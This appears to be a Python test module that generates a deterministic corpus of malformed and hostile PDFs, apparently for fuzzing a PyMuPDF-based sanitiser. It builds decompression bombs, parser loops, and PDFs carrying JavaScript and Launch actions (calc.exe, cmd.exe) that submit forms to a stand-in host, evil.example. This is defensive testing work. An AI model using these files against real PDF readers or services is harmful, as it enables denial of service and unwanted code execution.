"""A deterministic corpus of hostile and broken PDFs, made from a few small
valid ones (tests/support.make_pdf): the same seed gives the same files.

Each file's name starts with its class (`truncated-007.pdf`), one of CLASSES.
Everything is small and quick to make (well under 5 s for the whole corpus),
except what a decompression bomb inflates to: its file stays small.
"""

from __future__ import annotations

import random
import re
import zlib
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path

import pymupdf

from tests.support import make_pdf

CLASSES = (
    "truncated",
    "bitflip",
    "spliced",
    "xref-loop",
    "absurd-count",
    "lying-count",
    "bomb",
    "huge-page",
    "javascript",
    "openaction",
    "structure",
)


def _valid_pdfs(folder: Path) -> list[bytes]:
    """The seeds: plain, rotated and a large text page; uncompressed (so flips
    land on structure) and with compressed object streams."""
    plain = make_pdf(folder / "seed-plain.pdf", pages=3).read_bytes()
    rotated = make_pdf(folder / "seed-rotated.pdf", pages=2, rotate=90, size=(842, 595)).read_bytes()
    doc = pymupdf.open(stream=plain, filetype="pdf")
    packed = doc.tobytes(garbage=1, deflate=True, use_objstms=1)
    doc.close()
    return [plain, rotated, packed]


def _pdf(objects: dict[int, bytes], root: int = 1, trailer_extra: bytes = b"", xref: bool = True) -> bytes:
    """A PDF written by hand from its objects (number -> body), with a correct xref table unless asked not to."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra, start)
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<" + dictionary + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (Bien ban) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
IMAGE_RESOURCES = b"<</XObject<</Im 6 0 R>>>>"


def _one_page(
    page: bytes = b"",
    content: bytes = PAGE_CONTENT,
    catalog: bytes = b"",
    extra=None,
    *,
    pages: bytes = b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    resources: bytes = b"<</Font<</F1 5 0 R>>>>",
    mediabox: bytes = b"[0 0 595 842]",
    content_object: bytes | None = None,
    font: bytes = FONT,
) -> bytes:
    """A one-page PDF with a correct xref: catalog 1, pages 2, page 3, content 4,
    font 5, and `extra` objects from 6."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: pages,
        3: b"<</Type/Page/Parent 2 0 R/MediaBox" + mediabox + b"/Contents 4 0 R/Resources" + resources + page + b">>",
        4: content_object if content_object is not None else _stream(b"", content),
        5: font,
    }
    objects.update(extra or {})
    return _pdf(objects)


@lru_cache(maxsize=1)
def _zeros_deflated(megabytes: int = 256) -> bytes:
    """`megabytes` MB of zero bytes, deflated: about a thousandth of that."""
    squeeze = zlib.compressobj(1)
    chunk = bytes(1024 * 1024)
    parts = [squeeze.compress(chunk) for _ in range(megabytes)]
    parts.append(squeeze.flush())
    return b"".join(parts)


# ---- the classes ------------------------------------------------------------------


def _truncated(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    out = []
    for seed in seeds:
        for _ in range(14):
            out.append(seed[: rng.randrange(8, len(seed))])
        out.append(seed[: len(seed) // 2])
        out.append(seed[:-30])  # no startxref, no %%EOF
    return out


def _bitflip(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    out = []
    for seed in seeds:
        for flips in (1, 1, 2, 4, 8, 16, 32, 64, 128, 256) * 2:
            data = bytearray(seed)
            for _ in range(flips):
                # Past the header: a file that no longer starts as a PDF is refused before PyMuPDF sees it.
                at = rng.randrange(16, len(data))
                data[at] ^= 1 << rng.randrange(8)
            out.append(bytes(data))
    return out


def _spliced(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    out = []
    junk = [
        lambda n: rng.randbytes(n),
        lambda n: b"(" * n,
        lambda n: b"<<" * n,
        lambda n: b"[" * n,
        lambda n: b"0 0 R " * (n // 6 + 1),
        lambda n: b"endobj stream endstream " * (n // 24 + 1),
        lambda n: b"\x00" * n,
    ]
    for seed in seeds:
        for index in range(20):
            at = rng.randrange(16, len(seed))
            garbage = junk[index % len(junk)](rng.choice((16, 256, 4096)))
            if index % 3 == 0:  # overwrite rather than insert
                out.append(seed[:at] + garbage + seed[at + len(garbage) :])
            else:
                out.append(seed[:at] + garbage + seed[at:])
    return out


def _xref_loop(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    out = []
    plain = seeds[0]
    start = int(re.findall(rb"startxref\s+(\d+)", plain)[-1])
    # The trailer's /Prev points back at its own xref, or at another that points back.
    out.append(plain.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % start, 1))
    out.append(plain.replace(b"trailer\n<<", b"trailer\n<</Prev 0", 1))
    looped = plain + b"xref\n0 0\ntrailer\n<</Size 1/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(plain), start)
    out.append(looped.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % len(plain), 1))
    # The page tree: a node that is its own kid, kids that hold each other, a page that is its own parent.
    kids_loops = [
        {2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"},
        {2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", 6: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"},
        {2: b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>"},
        {2: b"<</Type/Pages/Kids[3 0 R 3 0 R 3 0 R]/Count 3>>"},
        {2: b"<</Type/Pages/Kids 2 0 R/Count 1>>"},
        {
            2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>",
            6: b"<</Type/Pages/Kids[7 0 R]/Count 1>>",
            7: b"<</Type/Pages/Kids[6 0 R]/Count 1>>",
        },
        {1: b"<</Type/Catalog/Pages 1 0 R>>"},
        {3: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"},
        # Resources and forms that draw themselves.
        {
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>",
            4: _stream(b"", b"/X Do"),
            6: _stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>", b"/X Do"),
        },
        {
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources 3 0 R/XObject<</X 3 0 R>>>>",
            4: _stream(b"", b"/X Do"),
        },
        # Objects that are references to each other, and a Length that refers to itself.
        {6: b"7 0 R", 7: b"6 0 R", 3: b"<</Type/Page/Parent 2 0 R/MediaBox 6 0 R/Contents 4 0 R>>"},
        {4: b"<</Length 4 0 R>>\nstream\n" + PAGE_CONTENT + b"\nendstream"},
        {5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding 5 0 R>>"},
    ]
    for replace in kids_loops:
        objects = {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
            4: _stream(b"", PAGE_CONTENT),
            5: FONT,
        }
        objects.update(replace)
        out.append(_pdf(objects))
        out.append(_pdf(objects, xref=False))  # and MuPDF's repair has to find them
    # Object streams that contain themselves, or each other.
    for _ in range(4):
        n = rng.randrange(6, 9)
        body = b"%d 0 " % n
        objects = {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
            n: _stream(b"/Type/ObjStm/N 1/First %d/Extends %d 0 R" % (len(body), n), body + b"<<>>"),
        }
        out.append(_pdf(objects))
    return out


def _absurd_count(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    counts = [
        b"1000000000",
        b"2147483647",
        b"2147483648",
        b"4294967296",
        b"99999999999999999999",
        b"-1",
        b"-2147483648",
        b"1e9",
        b"3.5",
        b"(many)",
        b"/Many",
        b"null",
        b"[1]",
        b"999999",
    ]
    out = []
    for count in counts:
        out.append(_one_page(pages=b"<</Type/Pages/Kids[3 0 R]/Count " + count + b">>"))
    # The same in a file MuPDF reads through its own page tree of several pages.
    for count in counts[:8]:
        out.append(re.sub(rb"/Count \d+", b"/Count " + count, seeds[0], count=1))
    # A tree of many nodes that each claim a billion pages.
    kids = b" ".join(b"%d 0 R" % n for n in range(6, 26))
    extra = {n: b"<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1000000000>>" for n in range(6, 26)}
    out.append(_one_page(extra=extra, pages=b"<</Type/Pages/Kids[" + kids + b"]/Count 20000000000>>"))
    return out


def _lying_count(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    out = []
    for count in (0, 2, 3, 5, 10, 100, 2000, 2001, 5000):
        out.append(_one_page(pages=b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count))
        out.append(re.sub(rb"/Count \d+", b"/Count %d" % count, seeds[0], count=1))
    # Kids that are not pages: missing objects, wrong types, numbers.
    for kids in (b"[3 0 R 99 0 R]", b"[4 0 R]", b"[5 0 R 3 0 R]", b"[1 2 3]", b"[]", b"null", b"[3 0 R null]"):
        out.append(_one_page(pages=b"<</Type/Pages/Kids" + kids + b"/Count 1>>"))
    # No /Count at all, no /Kids, /Type missing.
    out.append(_one_page(pages=b"<</Type/Pages/Kids[3 0 R]>>"))
    out.append(_one_page(pages=b"<</Type/Pages/Count 1>>"))
    out.append(_one_page(pages=b"<</Kids[3 0 R]/Count 1>>"))
    out.append(_one_page(page=b"/Type/Pages"))
    return out


def _bomb(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    """Small files that inflate to hundreds of MB: a content stream, an image,
    a font, twice-deflated streams, and a page that draws the same bomb many times."""
    zeros = _zeros_deflated()
    twice = zlib.compress(zeros, 9)
    out = []
    out.append(_one_page(content_object=_stream(b"/Filter/FlateDecode", zeros)))
    out.append(_one_page(content_object=_stream(b"/Filter[/FlateDecode/FlateDecode]", twice)))
    for width, height, space in (
        (16384, 16384, b"/DeviceRGB"),
        (65535, 4096, b"/DeviceGray"),
        (9000, 9000, b"/DeviceCMYK"),
    ):
        image = (
            b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace %s/BitsPerComponent 8"
            b"/Filter/FlateDecode/Length %d>>\nstream\n" % (width, height, space, len(zeros)) + zeros + b"\nendstream"
        )
        draw = b"q 595 0 0 842 0 0 cm /Im Do Q"
        out.append(_one_page(extra={6: image}, content=draw, resources=IMAGE_RESOURCES))
        # The same image drawn again and again.
        out.append(_one_page(extra={6: image}, content=draw * 50, resources=IMAGE_RESOURCES))
    twice_image = (
        b"<</Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(twice) + twice + b"\nendstream"
    )
    out.append(_one_page(extra={6: twice_image}, content=b"q 595 0 0 842 0 0 cm /Im Do Q", resources=IMAGE_RESOURCES))
    # An embedded font program that inflates to 256 MB.
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FirstChar 32/LastChar 126/FontDescriptor 6 0 R>>"
    descriptor = b"<</Type/FontDescriptor/FontName/Bomb/Flags 32/FontBBox[0 0 1000 1000]/FontFile2 7 0 R>>"
    out.append(_one_page(extra={6: descriptor, 7: _stream(b"/Filter/FlateDecode", zeros)}, font=font))
    # Every page of a document the same content bomb.
    kids = b" ".join(b"%d 0 R" % n for n in range(6, 16))
    many = {n: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>" for n in range(6, 16)}
    out.append(
        _one_page(
            extra=many,
            pages=b"<</Type/Pages/Kids[" + kids + b"]/Count 10>>",
            content_object=_stream(b"/Filter/FlateDecode", zeros),
        )
    )
    return out


def _huge_page(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    boxes = [
        b"[0 0 14400 14400]",
        b"[0 0 14400 1]",
        b"[0 0 1 14400]",
        b"[0 0 14400 3]",
        b"[0 0 3 14400]",
        b"[0 0 200000 200000]",
        b"[0 0 1e30 1e30]",
        b"[0 0 99999999999 842]",
        b"[-14400 -14400 14400 14400]",
        b"[0 0 0 0]",
        b"[0 0 595]",
        b"[0 0 595 842 9 9]",
        b"[0 0 -595 -842]",
        b"[842 595 0 0]",
        b"[(a) (b) (c) (d)]",
        b"null",
        b"[0 0 0.01 0.01]",
        b"[0 0 1 1]",
        b"[0 0 14400.5 14400.5]",
        b"[0 0 14399 14401]",
    ]
    out = [_one_page(mediabox=box) for box in boxes]
    # A normal MediaBox with an absurd CropBox, /UserUnit or /Rotate.
    for extra in (
        b"/CropBox[0 0 14400 14400]",
        b"/UserUnit 75000",
        b"/Rotate 45",
        b"/Rotate -270",
        b"/Rotate 99999999999",
        b"/CropBox[1000 1000 2000 2000]",
        b"/UserUnit 0",
    ):
        out.append(_one_page(page=extra))
    # A content stream that scales a drawing up to the largest page there is.
    out.append(_one_page(content=b"1000 0 0 1000 0 0 cm 0 0 14400 14400 re f", mediabox=b"[0 0 14400 14400]"))
    doc = pymupdf.open()
    for width, height in ((14400, 14400), (14400, 200), (200, 14400)):
        page = doc.new_page(width=width, height=height)
        page.insert_text((72, 100), "trang rong", fontname="helv", fontsize=400)
    out.append(doc.tobytes())
    doc.close()
    return out


JS = b"app.alert('x'); this.submitForm('http://evil.example/');"


def _javascript(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    """Valid documents carrying JavaScript in every place it can hide (the
    served copy must lose it all); and malformed JavaScript too."""
    out = []
    names = {6: b"<</Names[(a) 7 0 R]>>", 7: b"<</S/JavaScript/JS(" + JS + b")>>"}
    out.append(_one_page(catalog=b"/Names<</JavaScript 6 0 R>>", extra=names))
    out.append(_one_page(catalog=b"/AA<</WC<</S/JavaScript/JS(" + JS + b")>>>>"))
    out.append(_one_page(page=b"/AA<</O<</S/JavaScript/JS(" + JS + b")>>>>"))
    stream = {6: _stream(b"", JS), 7: b"<</S/JavaScript/JS 6 0 R>>"}
    out.append(_one_page(page=b"/AA<</O 7 0 R/C 7 0 R>>", extra=stream))
    link = b"<</Type/Annot/Subtype/Link/Rect[72 700 300 740]/A<</S/JavaScript/JS(" + JS + b")>>>>"
    out.append(_one_page(page=b"/Annots[6 0 R]", extra={6: link}))
    launch = b"<</Type/Annot/Subtype/Link/Rect[72 700 300 740]/A<</S/Launch/F(calc.exe)>>>>"
    out.append(_one_page(page=b"/Annots[6 0 R]", extra={6: launch}))
    chained = b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(" + JS + b")>>>>"
    out.append(_one_page(catalog=b"/OpenAction 6 0 R", extra={6: chained}))
    widget = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[72 600 300 640]"
        b"/AA<</K<</S/JavaScript/JS(" + JS + b")>>/F<</S/JavaScript/JS(" + JS + b")>>>>>>"
    )
    out.append(_one_page(page=b"/Annots[6 0 R]", catalog=b"/AcroForm<</Fields[6 0 R]>>", extra={6: widget}))
    # Broken ones: JS that is not a string, a name tree that loops, huge JS.
    out.append(_one_page(catalog=b"/Names<</JavaScript 6 0 R>>", extra={6: b"<</Kids[6 0 R]>>"}))
    out.append(_one_page(catalog=b"/OpenAction<</S/JavaScript/JS 42>>"))
    out.append(_one_page(catalog=b"/OpenAction<</S/JavaScript/JS(" + b"a" * 60000 + b")>>"))
    # Through PyMuPDF: an embedded file, a file attachment annotation, and JavaScript, all in one.
    out.append(active_pdf())
    return out


def _openaction(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    actions = [
        b"<</S/JavaScript/JS(" + JS + b")>>",
        b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        b"<</S/URI/URI(http://evil.example/)>>",
        b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>",
        b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>",
        b"<</S/ImportData/F(data.fdf)>>",
        b"[3 0 R/Fit]",
        b"[99 0 R/Fit]",
        b"6 0 R",
        b"null",
        b"(junk)",
        b"<</S/JavaScript>>",
    ]
    out = []
    for action in actions:
        extra = {6: b"<</S/JavaScript/JS(" + JS + b")/Next 6 0 R>>"} if action == b"6 0 R" else None
        out.append(_one_page(catalog=b"/OpenAction" + action, extra=extra))
    return out


def _structure(seeds: list[bytes], rng: random.Random) -> list[bytes]:
    """Odds and ends: no xref at all, a header and nothing else, junk before the header, empty objects."""
    out = [
        b"%PDF-1.7\n",
        b"%PDF-1.7\n%%EOF\n",
        b"%PDF-",
        b"junk before the header\n" + seeds[0],
        seeds[0].replace(b"startxref", b"startxrex"),
        re.sub(rb"startxref\s+\d+", b"startxref\n999999999", seeds[0]),
        re.sub(rb"startxref\s+\d+", b"startxref\n-5", seeds[0]),
        _pdf({1: b"<<>>"}),
        _pdf({1: b"<</Type/Catalog>>"}),
        _pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        _pdf({1: b"null"}),
        _pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"(" * 5000}),
        _pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"[" * 5000}),
        _pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<<" * 5000}),
        _one_page(content=b"q " * 100000),
        _one_page(content=b"[" * 50000),
        _one_page(content=b"BT /F1 9999999 Tf 0 0 Td (x) Tj ET"),
        _one_page(content=b"BT /Nope 12 Tf (x) Tj ET /Nope Do"),
        _one_page().replace(b"%PDF-1.7", b"%PDF-9.9", 1),
        _one_page() + rng.randbytes(2048),
        seeds[0] + seeds[1],
        seeds[0] * 2,
    ]
    # Encrypted with an unknown handler.
    out.append(_one_page().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Nope/V 9/R 9>>", 1))
    return out


GENERATORS: dict[str, Callable[[list[bytes], random.Random], list[bytes]]] = {
    "truncated": _truncated,
    "bitflip": _bitflip,
    "spliced": _spliced,
    "xref-loop": _xref_loop,
    "absurd-count": _absurd_count,
    "lying-count": _lying_count,
    "bomb": _bomb,
    "huge-page": _huge_page,
    "javascript": _javascript,
    "openaction": _openaction,
    "structure": _structure,
}


def active_pdf() -> bytes:
    """A valid two-page PDF that carries JavaScript (document-level, OpenAction,
    page /AA), an embedded file and a file attachment annotation."""
    doc = pymupdf.open()
    for number in (1, 2):
        page = doc.new_page(width=595, height=842)
        page.insert_text((72, 100), f"Tai lieu co ma trang {number}", fontname="helv", fontsize=14)
    doc.embfile_add("secret.txt", b"embedded secret payload", filename="secret.txt")
    doc[0].add_file_annot(pymupdf.Point(100, 200), b"attached payload", "attached.txt")
    action = doc.get_new_xref()
    doc.update_object(action, "<</S/JavaScript/JS(app.alert\\('doc'\\);)>>")
    names = doc.get_new_xref()
    doc.update_object(names, f"<</Names[(hello) {action} 0 R]>>")
    catalog = doc.pdf_catalog()
    doc.xref_set_key(catalog, "Names/JavaScript", f"{names} 0 R")
    doc.xref_set_key(catalog, "OpenAction", "<</S/JavaScript/JS(app.alert\\('open'\\);)>>")
    doc.xref_set_key(doc[0].xref, "AA", "<</O<</S/JavaScript/JS(app.alert\\('page'\\);)>>>>")
    data = doc.tobytes()
    doc.close()
    return data


def generate(folder: Path, seed: int = 14) -> list[Path]:
    """Write the corpus into `folder`: `<class>-<nnn>.pdf`, the same files for the same seed."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    seeds = _valid_pdfs(folder)
    paths = []
    for name, make in GENERATORS.items():
        for number, data in enumerate(make(seeds, rng), start=1):
            path = folder / f"{name}-{number:03d}.pdf"
            path.write_bytes(data)
            paths.append(path)
    for seed_file in folder.glob("seed-*.pdf"):
        seed_file.unlink()
    return paths


def class_of(path: Path) -> str:
    return path.name.rsplit("-", 1)[0]
